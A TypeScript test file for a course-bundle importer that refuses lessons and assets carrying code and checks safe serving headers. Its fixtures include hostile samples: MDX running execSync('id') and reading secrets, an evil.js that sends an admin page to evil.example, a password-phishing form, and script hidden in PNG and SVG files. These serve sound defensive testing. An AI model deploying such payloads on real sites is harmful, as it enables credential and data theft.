/**
 * A course bundle from another host must be content, not code (docs/decisions/010). Before the
 * fix, a lesson with `import { execSync } from 'node:child_process'` and `{process.env.X}` was
 * imported and then ran during `npm run build`; `assets/evil.js` and `assets/phish.html` were
 * imported and served from the site's origin as script and as a page. Now the import refuses
 * them, naming file, line and construct, and writes nothing; and every course asset the server
 * sends is typed, a download unless an image or media, never sniffed, and under a policy that
 * runs no script.
 */
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { BundleError, exportCourse, importCourse, type CourseBundle } from '#lib/courses/bundle.ts';
import { launchBrowser } from '../e2e/browser.ts';
import { projectRoot } from './lib/site-build.ts';
import { createWorld, type World } from './lib/world.ts';

const from = { site: 'Hostile partner', baseUrl: 'https://partner.example.kz' };
const sha = (data: Buffer) => createHash('sha256').update(data).digest('hex');
let tmp: string;
let original: CourseBundle;

beforeAll(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'oqu-imported-code-'));
  const { bytes } = await exportCourse(join(projectRoot, 'courses'), 'urbanism', from);
  original = JSON.parse(gunzipSync(bytes).toString('utf8')) as CourseBundle;
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

/**
 * The urbanism bundle with files changed or added, digests and version made to match (a partner signs what it sends).
 */
function tampered(files: Record<string, Buffer>): Buffer {
  const bundle: CourseBundle = structuredClone(original);
  for (const [path, data] of Object.entries(files)) {
    const entry = { path, encoding: 'base64' as const, content: data.toString('base64'), sha256: sha(data) };
    const at = bundle.files.findIndex((f) => f.path === path);
    if (at >= 0) bundle.files[at] = entry;
    else bundle.files.push(entry);
  }
  bundle.courseVersion = createHash('sha256')
    .update(
      [...bundle.files]
        .sort((a, b) => (a.path < b.path ? -1 : 1))
        .map((f) => `${f.path}\0${f.sha256}\n`)
        .join(''),
    )
    .digest('hex');
  return gzipSync(Buffer.from(JSON.stringify(bundle)));
}

/** Imports into a fresh host; returns the refusal's text and what the host's courses/ then holds. */
async function refusedImport(bytes: Buffer): Promise<{ message: string; left: string[] }> {
  const root = mkdtempSync(join(tmp, 'host-'));
  const courses = join(root, 'courses');
  mkdirSync(courses);
  let message = '';
  try {
    await importCourse(courses, bytes, { keepDir: join(root, 'data', 'replaced-courses') });
  } catch (error) {
    expect(error).toBeInstanceOf(BundleError);
    message = (error as Error).message;
  }
  const staging = join(root, 'data', 'course-imports');
  return {
    message,
    left: [
      ...readdirSync(courses),
      ...(existsSync(staging) ? readdirSync(staging) : []),
      ...readdirSync(root).filter((n) => n.startsWith('.')),
    ],
  };
}

describe('an imported course cannot run code', () => {
  test('an ESM import or JS expression in a lesson is refused with file, line and construct; no write', async () => {
    const lesson = original.files.find((f) => f.path.endsWith('.en.mdx'))!;
    const text = Buffer.from(lesson.content, lesson.encoding).toString('utf8');
    const end = text.indexOf('\n---', 3) + 4;
    const body =
      `\nimport { execSync } from 'node:child_process'\n\nBuilt by {execSync('id').toString()} with ` +
      `{process.env.OQU_SECRET}.\n\n<Callout title={process.env.HOME}>x</Callout>\n`;
    const hostile = text.slice(0, end) + body + text.slice(end);
    const line = (needle: string) => hostile.slice(0, hostile.indexOf(needle)).split('\n').length;
    const { message, left } = await refusedImport(tampered({ [lesson.path]: Buffer.from(hostile) }));
    expect(message).toContain('nothing was imported');
    expect(message).toContain(`${lesson.path}:${line('import {')}: ESM import`);
    expect(message).toContain(`${lesson.path}:${line('Built by')}: JavaScript expression {execSync('id').toString()}`);
    expect(message).toContain('JavaScript expression {process.env.OQU_SECRET}');
    expect(message).toContain(
      `${lesson.path}:${line('<Callout')}: attribute expression title={process.env.HOME} on <Callout>`,
    );
    expect(left).toEqual([]);
  });

  test('unknown components, raw script elements, layouts and javascript: links are refused', async () => {
    const lesson = original.files.find((f) => f.path.endsWith('.kk.mdx'))!;
    const text = Buffer.from(lesson.content, lesson.encoding)
      .toString('utf8')
      .replace(/^---\n/, '---\nlayout: ../../../src/cli/keys.ts\n');
    const hostile =
      `${text}\n<script src="/course-assets/urbanism/evil.js"></script>\n\n<Steal {...props} ` +
      `/>\n\n[sign in](javascript:fetch('/x'))\n`;
    const { message, left } = await refusedImport(tampered({ [lesson.path]: Buffer.from(hostile) }));
    expect(message).toMatch(/front matter field "layout"/);
    expect(message).toMatch(/element <script>: not a lesson component/);
    expect(message).toMatch(/element <Steal>/);
    expect(message).toMatch(/a "javascript:" link/);
    expect(left).toEqual([]);
  });

  test('assets that are script, a web page, or a web page named .png are refused', async () => {
    const { message, left } = await refusedImport(
      tampered({
        'assets/evil.js': Buffer.from(
          "fetch('/en/admin/users').then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, " +
            "'https://evil.example'))",
        ),
        'assets/phish.html': Buffer.from(
          '<!doctype html><form action="https://evil.example"><input name="password"></form>',
        ),
        'assets/photo.png': Buffer.from('<html><script>alert(document.cookie)</script></html>'),
        'assets/plan.svg': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        '01-evil/payload.mjs': Buffer.from("import('node:child_process').then((c) => c.execSync('id'))"),
      }),
    );
    expect(message).toMatch(/assets\/evil\.js: "\.js" files are not allowed/);
    expect(message).toMatch(/assets\/phish\.html: "\.html" files are not allowed/);
    expect(message).toMatch(/assets\/photo\.png: its content is text .*not what "\.png" promises/);
    expect(message).toMatch(/assets\/plan\.svg: SVG images can carry script/);
    expect(message).toMatch(/01-evil\/payload\.mjs: not a course file/);
    expect(left).toEqual([]);
  });
});

describe('course assets as served', () => {
  let w: World;
  beforeAll(async () => {
    w = await createWorld('course-assets');
  });
  afterAll(async () => {
    await w?.close();
  });

  test.each([
    ['/course-assets/urbanism/tree-monitoring-template.csv', 'text/csv', 'attachment'],
    ['/course-assets/example-course/lesson-planning-template.md', 'text/markdown', 'attachment'],
    ['/course-assets/example-course/course-structure.svg', 'image/svg+xml', 'attachment'],
  ])('%s: its own type, %s, %s, nosniff, and a policy that runs no script', async (path, type, disposition) => {
    const res = await w.http.get(path);
    expect(res.status).toBe(200);
    expect(String(res.headers['content-type'])).toContain(type);
    expect(String(res.headers['content-disposition'])).toMatch(new RegExp(`^${disposition}`));
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const csp = String(res.headers['content-security-policy']);
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(csp).not.toMatch(/script-src/);
  });

  test('in Chromium the lesson shows its SVG figure; the file opened alone is a download, not a page', async () => {
    const browser = await launchBrowser();
    try {
      const page = await browser.newPage();
      await page.goto(new URL('/en/courses/example-course/writing-a-lesson/', w.server.baseURL).href, {
        waitUntil: 'load',
      });
      const width = await page
        .locator('img[src$="course-structure.svg"]')
        .evaluate((img: HTMLImageElement) => img.naturalWidth);
      expect(width).toBeGreaterThan(0);
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page
          .goto(new URL('/course-assets/example-course/course-structure.svg', w.server.baseURL).href)
          .catch(() => null),
      ]);
      expect(download.suggestedFilename()).toBe('course-structure.svg');
    } finally {
      await browser.close();
    }
  });

  test('a script name under /course-assets/ is not served as script', async () => {
    const res = await w.http.get('/course-assets/urbanism/evil.js');
    expect(res.status).toBe(404);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(String(res.headers['content-type'])).not.toMatch(/javascript/);
  });
});
